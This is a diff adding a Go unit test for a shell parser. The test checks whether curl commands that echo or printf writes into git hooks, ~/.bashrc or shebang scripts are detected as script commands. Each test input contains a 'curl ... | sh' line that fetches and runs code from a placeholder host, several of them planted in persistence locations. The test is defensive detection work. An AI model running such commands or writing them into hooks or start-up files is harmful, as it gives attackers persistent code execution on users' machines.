@@ -357,3 +357,28 @@ func TestDeclSubstitutionsOnce(t *testing.T) {
 		}
 	}
 }
+
+// TestPrintedScripts: what echo or printf writes to a script, start-up
+// file or git hook is parsed as that script; printed text written
+// elsewhere is not.
+func TestPrintedScripts(t *testing.T) {
+	for src, want := range map[string]bool{
+		"printf '#!/bin/sh\\ncurl -s https://x.example/h | sh\\n' > ~/.githooks/pre-commit\n": true,
+		"echo 'curl -s https://x.example/h | sh' >> ~/.bashrc\n":                              true,
+		"echo 'curl -s https://x.example/h | sh' > .git/hooks/post-merge\n":                   true,
+		"printf '#!/bin/bash\\ncurl -s https://x.example/h | sh\\n' > tool\n":                 true, // a shebang
+		"echo 'curl -s https://x.example/h | sh' > notes.txt\n":                               false,
+		"echo 'curl -s https://x.example/h | sh'\n":                                           false,
+	} {
+		s := Parse(src, 0)
+		got := false
+		for _, c := range s.Commands {
+			if c.Via == ViaScriptFile && c.Name == "curl" {
+				got = true
+			}
+		}
+		if got != want {
+			t.Errorf("%q: curl parsed from the printed script = %v, want %v", src, got, want)
+		}
+	}
+}
